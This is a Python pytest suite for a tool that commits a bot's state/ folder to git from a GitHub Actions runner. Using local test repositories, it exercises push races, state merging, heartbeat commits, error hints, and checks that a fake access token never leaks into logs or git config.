"""Tests for botjob.gitsync: saving state/ back to the repository, on real git repositories.

Each test builds a bare "GitHub" remote, a shallow runner checkout (as actions/checkout
makes it, with no git identity) and the owner's own clone, then tells one story.
"""

from __future__ import annotations

import base64
import http.server
import json
import logging
import os
import shutil
import subprocess
import sys
import threading
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from datetime import datetime, timedelta, timezone
from pathlib import Path

import pytest

from botjob import gitsync
from botjob.gitsync import BOT_EMAIL, BOT_NAME, SaveResult, SaveStateError, save_state

FAKE_TOKEN = "ghs_FAKEtokenForTests0123456789abcdefXYZ"
FAKE_HEADER = base64.b64encode(f"x-access-token:{FAKE_TOKEN}".encode()).decode()
OLD_OFFSET = 500000004


def git(cwd: Path, *args: str, date: datetime | None = None, check: bool = True) -> str:
    """Run git for the fixtures' own set-up; only these commits get an author from the environment."""
    env = dict(os.environ)
    env.update(
        GIT_AUTHOR_NAME="Set Up", GIT_AUTHOR_EMAIL="setup@example.com",
        GIT_COMMITTER_NAME="Set Up", GIT_COMMITTER_EMAIL="setup@example.com",
    )
    if date is not None:
        env["GIT_AUTHOR_DATE"] = env["GIT_COMMITTER_DATE"] = f"@{int(date.timestamp())} +0000"
    done = subprocess.run(["git", *args], cwd=cwd, env=env, capture_output=True, text=True)
    if check and done.returncode != 0:
        raise AssertionError(f"git {' '.join(args)} failed: {done.stderr}")
    return done.stdout.rstrip("\n")


def write_offset(checkout: Path, offset: int) -> None:
    (checkout / "state").mkdir(exist_ok=True)
    (checkout / "state" / "offset.json").write_text(json.dumps({"offset": offset}) + "\n")


@dataclass
class World:
    remote: Path  # the bare repository standing in for GitHub
    runner: Path  # the workflow's checkout: shallow, no git identity
    owner: Path  # the owner's clone, with an identity

    def remote_subjects(self) -> list[str]:
        return git(self.remote, "log", "--format=%s", "main").splitlines()

    def remote_file(self, path: str) -> str:
        return git(self.remote, "show", f"main:{path}")

    def owner_pushes(self, path: str, text: str, subject: str) -> str:
        git(self.owner, "pull", "-q", "--ff-only")
        (self.owner / path).parent.mkdir(parents=True, exist_ok=True)
        (self.owner / path).write_text(text)
        git(self.owner, "add", "-A")
        git(self.owner, "commit", "-qm", subject)
        git(self.owner, "push", "-q", "origin", "main")
        return git(self.owner, "rev-parse", "HEAD")


def build_world(tmp_path: Path, days_old: float) -> World:
    date = datetime.now(timezone.utc) - timedelta(days=days_old)
    remote, seed = tmp_path / "remote.git", tmp_path / "seed"
    bare = "--template="  # no sample hooks: less to copy per test
    git(tmp_path, "init", "-q", bare, "--bare", "-b", "main", str(remote))
    git(tmp_path, "init", "-q", bare, "-b", "main", str(seed))
    (seed / "README.md").write_text("# my bot\n")
    write_offset(seed, OLD_OFFSET)
    git(seed, "add", "-A")
    git(seed, "commit", "-qm", "first", date=date - timedelta(days=1))
    (seed / "README.md").write_text("# my bot\n\nAnswers on Telegram.\n")
    git(seed, "commit", "-qam", "README: what it does", date=date)
    git(seed, "push", "-q", str(remote), "main")
    runner, owner = tmp_path / "runner", tmp_path / "owner"
    git(tmp_path, "clone", "-q", bare, "--depth", "1", f"file://{remote}", str(runner))  # fetch-depth: 1
    git(tmp_path, "clone", "-q", bare, str(remote), str(owner))
    git(owner, "config", "user.name", "Owner")
    git(owner, "config", "user.email", "owner@example.com")
    return World(remote, runner, owner)


_TEMPLATES: dict[float, Path] = {}  # days_old -> a built world, copied for each test (git is slow to spawn)


@pytest.fixture
def make_world(tmp_path: Path, tmp_path_factory: pytest.TempPathFactory) -> Callable[..., World]:
    def make(days_old: float = 0) -> World:
        if days_old not in _TEMPLATES:
            _TEMPLATES[days_old] = tmp_path_factory.mktemp(f"world-{days_old:g}-days-old")
            build_world(_TEMPLATES[days_old], days_old)
        copy = tmp_path / "world"
        shutil.copytree(_TEMPLATES[days_old], copy, symlinks=True)
        world = World(copy / "remote.git", copy / "runner", copy / "owner")
        git(world.runner, "remote", "set-url", "origin", f"file://{world.remote}")
        git(world.owner, "remote", "set-url", "origin", str(world.remote))
        return world

    return make


@pytest.fixture(autouse=True)
def isolated_git(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    """No machine git config, identity, proxy or GitHub variable leaks into a test."""
    home = tmp_path / "home"
    home.mkdir()
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("GIT_CONFIG_NOSYSTEM", "1")
    monkeypatch.setenv("GIT_CONFIG_GLOBAL", str(home / "gitconfig-none"))
    for name in (
        "GIT_AUTHOR_NAME", "GIT_AUTHOR_EMAIL", "GIT_COMMITTER_NAME", "GIT_COMMITTER_EMAIL", "EMAIL",
        "GIT_AUTHOR_DATE", "GIT_COMMITTER_DATE", "GIT_DIR", "GIT_WORK_TREE", "GIT_INDEX_FILE",
        "GIT_CONFIG_COUNT", "GIT_CONFIG_PARAMETERS", "GITHUB_TOKEN", "GITHUB_REF_NAME", "GITHUB_EVENT_PATH",
        "GITHUB_SERVER_URL", "http_proxy", "https_proxy", "HTTP_PROXY", "HTTPS_PROXY", "all_proxy", "ALL_PROXY",
    ):
        monkeypatch.delenv(name, raising=False)


@pytest.fixture
def world(make_world: Callable[..., World]) -> World:
    return make_world()


class FakeSleep:
    def __init__(self) -> None:
        self.calls: list[float] = []

    def __call__(self, seconds: float) -> None:
        self.calls.append(seconds)


@pytest.fixture
def sleep() -> FakeSleep:
    return FakeSleep()


def assert_token_nowhere(*texts: str) -> None:
    for text in texts:
        assert FAKE_TOKEN not in text and FAKE_HEADER not in text


# ---------------------------------------------------------------------------- the ordinary run


def test_new_offset_is_committed_alone_and_pushed(world: World, sleep: FakeSleep):
    write_offset(world.runner, 500000009)

    result = save_state(world.runner, env={}, sleep=sleep)

    assert result == SaveResult(
        committed=True, pushed=True, message="state: offset 500000004 -> 500000009 [skip ci]", attempts=1
    )
    assert world.remote_subjects()[0] == "state: offset 500000004 -> 500000009 [skip ci]"
    assert git(world.remote, "show", "--name-only", "--format=", "main").splitlines() == ["state/offset.json"]
    assert json.loads(world.remote_file("state/offset.json")) == {"offset": 500000009}
    assert sleep.calls == []


def test_nothing_changed_makes_no_commit_and_no_push(world: World, sleep: FakeSleep):
    before = git(world.remote, "rev-parse", "main")
    (world.runner / "state" / ".offset-k2j4.tmp").write_text('{"offset": 1')  # a crashed atomic write

    result = save_state(world.runner, env={}, sleep=sleep)

    assert result.committed is False and result.pushed is False and result.attempts == 0
    assert result.message.startswith("nothing to save")
    assert git(world.runner, "rev-parse", "HEAD") == before
    assert git(world.remote, "rev-parse", "main") == before


def test_temp_files_stay_out_of_the_commit(world: World):
    write_offset(world.runner, 500000010)
    (world.runner / "state" / ".offset-abc123.tmp").write_text("{half a write")
    (world.runner / "state" / "other.tmp").write_text("scratch")

    save_state(world.runner, env={}, push=False)

    committed = git(world.runner, "show", "--name-only", "--format=", "HEAD").splitlines()
    assert committed == ["state/offset.json"]


def test_new_file_in_state_counts_as_a_change(world: World):
    (world.runner / "state" / "notes.json").write_text("{}\n")

    result = save_state(world.runner, env={}, push=False)

    assert result.committed and result.message == "state: update [skip ci]"
    assert git(world.runner, "show", "--name-only", "--format=", "HEAD").splitlines() == ["state/notes.json"]


def test_other_changes_in_the_working_tree_are_left_as_they_were(world: World):
    (world.runner / "README.md").write_text("# edited on the runner, not for committing\n")
    (world.runner / "build.log").write_text("staged by some earlier step\n")
    git(world.runner, "add", "build.log")
    write_offset(world.runner, 500000009)
    outside_state = [line for line in git(world.runner, "status", "--porcelain").splitlines() if "state/" not in line]

    save_state(world.runner, env={})

    assert git(world.remote, "show", "--name-only", "--format=", "main").splitlines() == ["state/offset.json"]
    assert git(world.runner, "status", "--porcelain").splitlines() == outside_state == [" M README.md", "A  build.log"]
    assert "edited on the runner" not in world.remote_file("README.md")


def test_push_false_commits_locally_only(world: World):
    before = git(world.remote, "rev-parse", "main")
    write_offset(world.runner, 500000009)

    result = save_state(world.runner, env={}, push=False)

    assert result == SaveResult(committed=True, pushed=False, message=result.message, attempts=0)
    assert git(world.runner, "log", "-1", "--format=%s") == result.message
    assert git(world.remote, "rev-parse", "main") == before


def test_first_offset_ever_says_set_to(world: World):
    git(world.runner, "rm", "-q", "state/offset.json")
    git(world.runner, "commit", "-qm", "start over")
    write_offset(world.runner, 42)

    assert save_state(world.runner, env={}, push=False).message == "state: offset set to 42 [skip ci]"


# ---------------------------------------------------------------------------- who commits


def test_runner_without_identity_commits_as_github_actions_bot(world: World):
    assert git(world.runner, "config", "user.email", check=False) == ""
    write_offset(world.runner, 500000009)

    save_state(world.runner, env={})

    assert git(world.remote, "log", "-1", "--format=%an <%ae> / %cn <%ce>", "main") == (
        f"{BOT_NAME} <{BOT_EMAIL}> / {BOT_NAME} <{BOT_EMAIL}>"
    )
    assert "github-actions" not in (world.runner / ".git" / "config").read_text()  # used, not stored


def test_repository_identity_is_kept(world: World):
    git(world.runner, "config", "user.name", "Ada Owner")
    git(world.runner, "config", "user.email", "ada@example.com")
    write_offset(world.runner, 500000009)

    save_state(world.runner, env={})

    assert git(world.remote, "log", "-1", "--format=%an <%ae>", "main") == "Ada Owner <ada@example.com>"


# ---------------------------------------------------------------------------- races


def test_owner_pushed_meanwhile_both_commits_land(world: World, sleep: FakeSleep):
    owners = world.owner_pushes("README.md", "# my bot\n\nNow with a schedule.\n", "README: schedule")
    write_offset(world.runner, 500000009)

    result = save_state(world.runner, env={}, sleep=sleep)

    assert result.pushed and result.attempts == 2
    assert sleep.calls == [1.0]
    subjects = world.remote_subjects()
    assert subjects[:2] == ["state: offset 500000004 -> 500000009 [skip ci]", "README: schedule"]
    assert git(world.remote, "rev-parse", "main^") == owners  # built on the owner's commit, nothing forced
    assert "Now with a schedule" in world.remote_file("README.md")
    assert git(world.runner, "rev-parse", "HEAD") == git(world.remote, "rev-parse", "main")


def test_conflicting_offset_on_the_remote_ours_wins(world: World, sleep: FakeSleep):
    owners = world.owner_pushes("state/offset.json", '{"offset": 500000006}\n', "hand-edited offset")
    write_offset(world.runner, 500000009)

    result = save_state(world.runner, env={}, sleep=sleep)

    assert result.pushed and result.attempts == 2
    assert json.loads(world.remote_file("state/offset.json")) == {"offset": 500000009}
    git(world.remote, "merge-base", "--is-ancestor", owners, "main")  # raises if the owner's commit were lost
    assert world.remote_subjects()[1] == "hand-edited offset"


def write_state(checkout: Path, files: dict[str, str]) -> None:
    for name, text in files.items():
        (checkout / "state" / name).parent.mkdir(parents=True, exist_ok=True)
        (checkout / "state" / name).write_text(text)


def fernet_token(made_at: int, secret: bytes) -> str:
    from cryptography.fernet import Fernet

    return Fernet(Fernet.generate_key()).encrypt_at_time(secret, made_at).decode() + "\n"


def test_two_runs_racing_keep_both_runs_counts_finished_ids_and_newest_memory(world: World, sleep: FakeSleep):
    """A run that started from an older state/ saves after another run pushed: nothing either saved is lost."""
    earlier = {
        "offset.json": json.dumps({"offset": 500000010, "finished": [500000013]}) + "\n",
        "usage.json": json.dumps({"day": "2030-03-14", "chats": {"aa": {"count": 2, "told": False},
                                                                 "bb": {"count": 5, "told": True}}}) + "\n",
        "memory/cc.bin": fernet_token(2_000_000_000, b"the earlier run's memory"),
        "memory/dd.bin": fernet_token(2_000_000_100, b"newer, from the earlier run"),
    }
    world.owner_pushes("state/offset.json", earlier["offset.json"], "state: the earlier run")
    write_state(world.owner, earlier)
    git(world.owner, "add", "-A")
    git(world.owner, "commit", "-qm", "state: the earlier run's counts and memory")
    git(world.owner, "push", "-q", "origin", "main")
    later = {
        "offset.json": json.dumps({"offset": 500000008, "finished": [500000010, 500000012]}) + "\n",
        "usage.json": json.dumps({"day": "2030-03-14", "chats": {"aa": {"count": 3, "told": False},
                                                                 "cc": {"count": 1, "told": False}}}) + "\n",
        "memory/cc.bin": fernet_token(2_000_000_050, b"newer, from the later run"),
        "memory/dd.bin": fernet_token(2_000_000_000, b"the later run's memory"),
    }
    write_state(world.runner, later)

    result = save_state(world.runner, env={}, sleep=sleep)

    assert result.pushed
    assert json.loads(world.remote_file("state/offset.json")) == {"offset": 500000011, "finished": [500000012, 500000013]}
    assert json.loads(world.remote_file("state/usage.json"))["chats"] == {
        "aa": {"count": 3, "told": False}, "bb": {"count": 5, "told": True}, "cc": {"count": 1, "told": False},
    }
    assert world.remote_file("state/memory/cc.bin") == later["memory/cc.bin"].strip()
    assert world.remote_file("state/memory/dd.bin") == earlier["memory/dd.bin"].strip()


def test_a_newer_days_counts_replace_yesterdays(world: World, sleep: FakeSleep):
    yesterday = json.dumps({"day": "2030-03-13", "chats": {"aa": {"count": 9, "told": True}}}) + "\n"
    today = json.dumps({"day": "2030-03-14", "chats": {"aa": {"count": 1, "told": False}}}) + "\n"
    world.owner_pushes("state/usage.json", today, "state: today")
    write_state(world.runner, {"usage.json": yesterday})
    assert save_state(world.runner, env={}, sleep=sleep).pushed
    assert world.remote_file("state/usage.json") == today.strip()


def push_from_owner(world: World, subject: str) -> None:
    git(world.owner, "add", "-A")
    git(world.owner, "commit", "-qm", subject)
    git(world.owner, "push", "-q", "origin", "main")


def test_a_race_never_lowers_a_chats_daily_count_whichever_run_counted_more(world: World, sleep: FakeSleep):
    """The run that pushed first answered Alice four times; ours, started from older state, once: she stays at four."""
    from datetime import date

    from botjob.memory import DailyUsage

    def counts(checkout: Path) -> DailyUsage:
        return DailyUsage(checkout / "state" / "usage.json", "owner secret", 4, today=lambda: date(2030, 3, 14))

    def counted(checkout: Path, questions: dict[int, int]) -> None:
        counter = counts(checkout)
        for chat, times in questions.items():
            for _ in range(times):
                counter.count(chat)
        counter.save()

    counted(world.owner, {111: 4, 222: 1})
    push_from_owner(world, "state: the earlier run")
    counted(world.runner, {111: 1, 333: 2})

    assert save_state(world.runner, env={}, sleep=sleep).pushed

    assert counts(world.runner).check(111) == "last-warning"  # the pushed run's four: not our one
    assert len(json.loads(world.remote_file("state/usage.json"))["chats"]) == 3
    counted(world.runner, {222: 3})
    assert counts(world.runner).check(222) == "last-warning"  # 222's question in the pushed run counts too


def test_two_runs_racing_keep_each_chats_newer_padded_memory(world: World, sleep: FakeSleep):
    from cryptography.fernet import Fernet

    from botjob.memory import ChatMemory

    key = Fernet.generate_key().decode()

    def remembered(checkout: Path, at: int, chat: int, words: str) -> None:
        ChatMemory(checkout / "state" / "memory", key, turns=3, clock=lambda: at).remember(chat, words, "noted")

    remembered(world.owner, 2_000_000_100, 111, "the pushed run's newer memory")
    remembered(world.owner, 2_000_000_000, 222, "the pushed run's older memory")
    push_from_owner(world, "state: the earlier run")
    remembered(world.runner, 2_000_000_000, 111, "our older memory")
    remembered(world.runner, 2_000_000_050, 222, "our newer memory, a much longer conversation " * 100)

    assert save_state(world.runner, env={}, sleep=sleep).pushed

    merged = ChatMemory(world.runner / "state" / "memory", key, turns=3)
    assert merged.load(111)[0]["content"] == "the pushed run's newer memory"
    assert merged.load(222)[0]["content"].startswith("our newer memory")
    assert git(world.runner, "status", "--porcelain") == ""  # what was loaded is what was pushed


def test_counts_named_the_new_way_replace_the_old_ones_of_the_same_day():
    """On the upgrade day a run of the old version may race one of the new: the old names would match nothing."""
    from botjob.state_merge import merge_state_file

    old = {"day": "2030-03-14", "chats": {"aa": {"count": 3, "told": False}}}
    new = {"v": 2, "day": "2030-03-14", "chats": {"bb": {"count": 1, "told": False}}}
    for theirs, ours in ((old, new), (new, old)):
        assert json.loads(merge_state_file("usage.json", json.dumps(theirs), json.dumps(ours))) == new
    newer_day = {**old, "day": "2030-03-15"}
    assert json.loads(merge_state_file("pictures.json", json.dumps(new), json.dumps(newer_day))) == newer_day


def test_owner_deleted_the_offset_file_ours_still_wins(world: World, sleep: FakeSleep):
    git(world.owner, "rm", "-q", "state/offset.json")
    git(world.owner, "commit", "-qm", "reset the bot")
    git(world.owner, "push", "-q", "origin", "main")
    write_offset(world.runner, 500000009)

    result = save_state(world.runner, env={}, sleep=sleep)

    assert result.pushed
    assert json.loads(world.remote_file("state/offset.json")) == {"offset": 500000009}
    assert world.remote_subjects()[1] == "reset the bot"


def test_race_with_a_dirty_working_tree_keeps_the_local_edit(world: World, sleep: FakeSleep):
    world.owner_pushes("docs.md", "new page\n", "docs")
    (world.runner / "README.md").write_text("# local edit\n")
    write_offset(world.runner, 500000009)

    result = save_state(world.runner, env={}, sleep=sleep)

    assert result.pushed
    assert (world.runner / "README.md").read_text() == "# local edit\n"
    assert "local edit" not in world.remote_file("README.md")


def test_a_local_commit_that_conflicts_outside_state_is_not_settled_for_the_owner(world: World, sleep: FakeSleep):
    world.owner_pushes("README.md", "# the owner's words\n", "owner: README")
    (world.runner / "README.md").write_text("# a local commit's words\n")
    git(world.runner, "commit", "-qam", "local README")
    write_offset(world.runner, 500000009)

    with pytest.raises(SaveStateError) as caught:
        save_state(world.runner, env={}, sleep=sleep)

    assert "could not replay" in str(caught.value) and "README.md" in str(caught.value)
    assert world.remote_file("README.md") == "# the owner's words"
    assert git(world.runner, "log", "-2", "--format=%s").splitlines() == [
        "state: offset 500000004 -> 500000009 [skip ci]", "local README",
    ]  # rebase aborted: the state commit is still there to push by hand
    assert not (world.runner / ".git" / "rebase-merge").exists()


# ---------------------------------------------------------------------------- failures and the token


def reject_every_push(remote: Path) -> None:
    """A pre-receive hook that refuses everything, and (like a careless server) echoes the token back."""
    hook = remote / "hooks" / "pre-receive"
    hook.parent.mkdir(exist_ok=True)
    hook.write_text(
        "#!/bin/sh\n"
        f"echo 'denied: protected branch (credentials {FAKE_TOKEN} / {FAKE_HEADER})' >&2\n"
        "exit 1\n"
    )
    hook.chmod(0o755)


def test_push_that_keeps_failing_fails_loud_without_the_token(
    world: World, sleep: FakeSleep, caplog: pytest.LogCaptureFixture
):
    caplog.set_level(logging.DEBUG, logger="botjob.gitsync")
    reject_every_push(world.remote)
    before = git(world.remote, "rev-parse", "main")
    write_offset(world.runner, 500000009)

    with pytest.raises(SaveStateError) as caught:
        save_state(world.runner, env={"GITHUB_TOKEN": FAKE_TOKEN}, retries=3, sleep=sleep)

    error = caught.value
    assert "after 3 attempt(s)" in str(error) and "not a race" in str(error)
    assert "denied: protected branch" in str(error)  # git's own words, redacted
    assert error.hint and "contents: write" in error.hint
    assert sleep.calls == [1.0, 2.0]
    assert git(world.remote, "rev-parse", "main") == before
    assert_token_nowhere(str(error), error.explain(), repr(error.args), caplog.text)
    assert_token_nowhere((world.runner / ".git" / "config").read_text())
    assert caplog.text.count("push to main refused") == 3


def test_token_with_a_local_remote_still_pushes_and_never_touches_config_or_argv(
    world: World, monkeypatch: pytest.MonkeyPatch
):
    calls: list[tuple[list[str], dict[str, str]]] = []
    real_run = subprocess.run

    def spy(argv, *args, **kwargs):
        calls.append((list(argv), dict(kwargs.get("env") or {})))
        return real_run(argv, *args, **kwargs)

    monkeypatch.setattr(gitsync.subprocess, "run", spy)
    write_offset(world.runner, 500000009)

    result = save_state(world.runner, env={"GITHUB_TOKEN": FAKE_TOKEN})

    assert result.pushed
    assert_token_nowhere((world.runner / ".git" / "config").read_text(), *(" ".join(argv) for argv, _ in calls))
    push_env = next(env for argv, env in calls if "push" in argv)
    commit_env = next(env for argv, env in calls if "commit" in argv)
    assert not any(FAKE_HEADER in value for value in commit_env.values())  # only fetch and push see it
    # git itself reads the header from that environment, for the GitHub server only
    header = real_run(
        ["git", "config", "--get-urlmatch", "http.extraheader", "https://github.com/me/bot"],
        env=push_env, capture_output=True, text=True, cwd=world.runner,
    ).stdout.strip()
    assert header == f"AUTHORIZATION: basic {FAKE_HEADER}"


class _Forbidden(http.server.BaseHTTPRequestHandler):
    """A git host that records the Authorization headers it gets and refuses them all (403)."""

    seen: list[list[str]] = []

    def do_GET(self) -> None:  # noqa: N802 (http.server's naming)
        self.seen.append(self.headers.get_all("Authorization") or [])
        self.send_response(403)
        self.send_header("Content-Length", "0")
        self.end_headers()

    do_POST = do_GET

    def log_message(self, *args: object) -> None:
        pass


@pytest.fixture
def forbidding_host() -> Iterator[str]:
    _Forbidden.seen = []
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Forbidden)
    thread = threading.Thread(target=server.serve_forever, args=(0.05,), daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_address[1]}"
    server.shutdown()
    server.server_close()


def test_token_reaches_the_server_as_basic_auth_and_a_403_is_not_a_race(
    world: World, sleep: FakeSleep, forbidding_host: str, caplog: pytest.LogCaptureFixture
):
    caplog.set_level(logging.DEBUG, logger="botjob.gitsync")
    git(world.runner, "remote", "set-url", "origin", f"{forbidding_host}/me/bot.git")
    # as if actions/checkout had persisted its own credentials: ours replaces it, never doubles it
    git(world.runner, "config", f"http.{forbidding_host}/.extraheader", "AUTHORIZATION: basic c3RhbGU=")
    write_offset(world.runner, 500000009)
    env = {"GITHUB_TOKEN": FAKE_TOKEN, "GITHUB_SERVER_URL": forbidding_host}

    with pytest.raises(SaveStateError) as caught:
        save_state(world.runner, env=env, retries=2, sleep=sleep)

    assert _Forbidden.seen and all(headers == [f"basic {FAKE_HEADER}"] for headers in _Forbidden.seen)
    assert "403" in str(caught.value) and "not a race" in str(caught.value)
    assert_token_nowhere(str(caught.value), caplog.text, (world.runner / ".git" / "config").read_text())


# ---------------------------------------------------------------------------- heartbeat


def test_quiet_public_repo_gets_a_heartbeat(tmp_path: Path, make_world: Callable[..., World], sleep: FakeSleep):
    world = make_world(days_old=50)
    event = tmp_path / "event.json"
    event.write_text(json.dumps({"schedule": "3-59/10 * * * *", "repository": {"private": False}}))
    now = datetime.now(timezone.utc)

    result = save_state(world.runner, env={"GITHUB_EVENT_PATH": str(event)}, now=now, sleep=sleep)

    assert result.committed and result.pushed and result.message == "state: heartbeat [skip ci]"
    assert world.remote_subjects()[0] == "state: heartbeat [skip ci]"
    assert json.loads(world.remote_file("state/heartbeat.json")) == {"last_heartbeat": now.date().isoformat()}
    assert git(world.remote, "show", "--name-only", "--format=", "main").splitlines() == ["state/heartbeat.json"]


@pytest.mark.parametrize(
    ("days_old", "heartbeat_days", "private"),
    [(10, 45, False), (50, 0, False), (50, 45, True)],
    ids=["recent-activity", "heartbeat-off", "private-repo"],
)
def test_no_heartbeat_when_not_needed(
    tmp_path: Path, make_world: Callable[..., World], days_old: float, heartbeat_days: float, private: bool
):
    world = make_world(days_old=days_old)
    event = tmp_path / "event.json"
    event.write_text(json.dumps({"repository": {"private": private}}))
    before = git(world.remote, "rev-parse", "main")

    result = save_state(world.runner, env={"GITHUB_EVENT_PATH": str(event)}, heartbeat_days=heartbeat_days)

    assert not result.committed and result.attempts == 0
    assert not (world.runner / "state" / "heartbeat.json").exists()
    assert git(world.remote, "rev-parse", "main") == before


def test_real_change_in_a_quiet_repo_is_not_called_a_heartbeat(make_world: Callable[..., World]):
    world = make_world(days_old=50)
    write_offset(world.runner, 500000009)

    result = save_state(world.runner, env={}, push=False)

    assert result.message == "state: offset 500000004 -> 500000009 [skip ci]"
    assert not (world.runner / "state" / "heartbeat.json").exists()


# ---------------------------------------------------------------------------- where it runs


def test_detached_head_pushes_to_github_ref_name(world: World):
    git(world.runner, "checkout", "-q", "--detach")
    write_offset(world.runner, 500000009)

    result = save_state(world.runner, env={"GITHUB_REF_NAME": "main"})

    assert result.pushed
    assert world.remote_subjects()[0] == "state: offset 500000004 -> 500000009 [skip ci]"


def test_detached_head_without_a_branch_name_commits_nothing(world: World):
    git(world.runner, "checkout", "-q", "--detach")
    head = git(world.runner, "rev-parse", "HEAD")
    write_offset(world.runner, 500000009)

    with pytest.raises(SaveStateError) as caught:
        save_state(world.runner, env={})

    assert "GITHUB_REF_NAME" in caught.value.hint
    assert git(world.runner, "rev-parse", "HEAD") == head


def test_not_a_git_checkout_is_a_clear_error(tmp_path: Path):
    plain = tmp_path / "plain"
    (plain / "state").mkdir(parents=True)

    with pytest.raises(SaveStateError) as caught:
        save_state(plain, env={})

    assert "not a git checkout" in str(caught.value) and caught.value.hint


def test_heartbeat_due_without_a_state_folder_is_a_clear_error(make_world: Callable[..., World]):
    world = make_world(days_old=50)
    git(world.runner, "rm", "-rq", "state")
    git(world.runner, "commit", "-qm", "no state", date=datetime.now(timezone.utc) - timedelta(days=50))

    with pytest.raises(SaveStateError) as caught:
        save_state(world.runner, env={})

    assert "no state/ directory" in str(caught.value) and caught.value.hint


def test_called_from_a_subfolder_saves_the_folder_below_it(world: World):
    (world.runner / "deploy" / "state").mkdir(parents=True)
    (world.runner / "deploy" / "state" / "offset.json").write_text('{"offset": 7}\n')

    result = save_state(world.runner / "deploy", env={}, push=False)

    assert result.message == "state: offset set to 7 [skip ci]"
    assert git(world.runner, "show", "--name-only", "--format=", "HEAD").splitlines() == ["deploy/state/offset.json"]


def test_ignored_state_folder_is_a_clear_error(world: World):
    (world.runner / ".gitignore").write_text("state/\n")
    git(world.runner, "rm", "-rq", "--cached", "state")
    git(world.runner, "commit", "-qm", "stop tracking state")

    with pytest.raises(SaveStateError) as caught:
        save_state(world.runner, env={}, push=False)

    assert ".gitignore" in caught.value.hint


def test_no_state_folder_and_no_heartbeat_due_is_nothing_to_save(world: World):
    git(world.runner, "rm", "-rq", "state")
    git(world.runner, "commit", "-qm", "no state yet")

    result = save_state(world.runner, env={})

    assert result == SaveResult(committed=False, pushed=False, message="nothing to save: no state/ directory", attempts=0)



def test_the_command_runs_on_the_standard_library_alone_and_never_prints_the_token(world: World):
    """The workflow's last step: `python3 -m botjob save-state` on a runner where nothing was installed."""
    write_offset(world.runner, 500000009)
    env = {**os.environ, "PYTHONPATH": str(Path(__file__).resolve().parent.parent), "GITHUB_TOKEN": FAKE_TOKEN}

    done = subprocess.run(
        [sys.executable, "-S", "-m", "botjob", "save-state"], cwd=world.runner, env=env, capture_output=True, text=True
    )

    assert done.returncode == 0, done.stderr
    assert "state: offset" in done.stdout and "pushed" in done.stdout
    assert json.loads(world.remote_file("state/offset.json"))["offset"] == 500000009
    assert_token_nowhere(done.stdout, done.stderr, (world.runner / ".git" / "config").read_text())


# ---------------------------------------------------------------------------- the state the answer job hands on
#
# In the workflow the answer job (it ran code from PyPI) hands state/ on as an artifact, and the save job,
# on a fresh checkout of the branch tip, takes it with `save-state --from DIR`: only the bot's own files,
# each checked; anything else saves nothing.

MEMORY_KEY = "a passphrase the owner keeps in BOTJOB_STATE_KEY"


def fresh_checkout(world: World, name: str) -> Path:
    """What actions/checkout makes of the branch tip in a job of its own: shallow, no identity."""
    checkout = world.remote.parent / name
    git(world.remote.parent, "clone", "-q", "--depth", "1", f"file://{world.remote}", str(checkout))
    return checkout


def handed_on(answer_checkout: Path, into: Path) -> Path:
    """What upload-artifact then download-artifact make of the answer job's state/: its files, hidden ones left out."""
    shutil.copytree(answer_checkout / "state", into, ignore=shutil.ignore_patterns(".*"))
    return into


def memory_of(checkout: Path):
    from botjob.memory import ChatMemory

    return ChatMemory(checkout / "state" / "memory", MEMORY_KEY, turns=3, clock=lambda: 2_000_000_000)


def test_what_the_answer_job_answered_is_saved_from_a_job_of_its_own(world: World, tmp_path: Path):
    """Alice's question moved the offset and her memory; Bob had said /reset; the owner keeps notes in state/."""
    memory_of(world.owner).remember(222, "Bob's old question", "an answer")
    (world.owner / "state" / "notes.md").write_text("why I reset the offset in March\n")
    push_from_owner(world, "state: Bob's memory, and the owner's notes")
    answer = fresh_checkout(world, "answer")
    write_offset(answer, 500000009)
    memory_of(answer).remember(111, "Alice's question", "the answer")
    memory_of(answer).forget(222)
    (answer / "state" / ".offset-k2j4.tmp").write_text('{"offset": 1')  # a crashed atomic write: hidden, never handed on
    handed = handed_on(answer, tmp_path / "answered-state")
    save = fresh_checkout(world, "save")

    result = save_state(save, env={}, source=handed)

    assert result.pushed and result.message == "state: offset 500000004 -> 500000009 [skip ci]"
    changed = git(world.remote, "show", "--name-status", "--format=", "main").splitlines()
    assert sorted(line.split("\t")[0] + " " + line.split("\t")[1] for line in changed) == [
        f"A state/{memory_of(save).path(111).relative_to(save / 'state').as_posix()}",
        f"D state/{memory_of(save).path(222).relative_to(save / 'state').as_posix()}",
        "M state/offset.json",
    ]
    git(save, "pull", "-q", "--ff-only")
    assert memory_of(save).load(111)[0]["content"] == "Alice's question" and memory_of(save).load(222) == []
    assert world.remote_file("state/notes.md") == "why I reset the offset in March"  # not the bot's: kept


def test_the_owners_edit_of_a_state_file_while_the_run_answered_is_merged_not_lost(world: World, tmp_path: Path, sleep: FakeSleep):
    """The save job commits onto the commit the answer job started from; the owner pushed meanwhile."""
    answer = fresh_checkout(world, "answer")
    save = fresh_checkout(world, "save")  # the answer job's commit, as the save job checks it out
    day = {"v": 2, "day": "2030-03-14"}
    world.owner_pushes("state/usage.json", json.dumps({**day, "chats": {"aa": {"count": 4, "told": False}}}) + "\n",
                       "state: the owner's count, by hand")
    write_offset(answer, 500000009)
    (answer / "state" / "usage.json").write_text(json.dumps({**day, "chats": {"bb": {"count": 1, "told": False}}}) + "\n")
    handed = handed_on(answer, tmp_path / "answered-state")

    result = save_state(save, env={}, source=handed, sleep=sleep)

    assert result.pushed
    assert json.loads(world.remote_file("state/usage.json"))["chats"] == {
        "aa": {"count": 4, "told": False}, "bb": {"count": 1, "told": False}}  # both, merged by meaning
    assert json.loads(world.remote_file("state/offset.json"))["offset"] == 500000009


def test_the_command_takes_the_handed_on_state_on_the_standard_library_alone(world: World, tmp_path: Path):
    """The save job's step: `python3 -S -m botjob save-state --from DIR` on a runner where nothing was installed."""
    answer = fresh_checkout(world, "answer")
    write_offset(answer, 500000009)
    handed = handed_on(answer, tmp_path / "answered-state")
    save = fresh_checkout(world, "save")
    env = {**os.environ, "PYTHONPATH": str(Path(__file__).resolve().parent.parent), "GITHUB_TOKEN": FAKE_TOKEN}

    done = subprocess.run(
        [sys.executable, "-S", "-m", "botjob", "save-state", "--from", str(handed)],
        cwd=save, env=env, capture_output=True, text=True,
    )

    assert done.returncode == 0, done.stderr
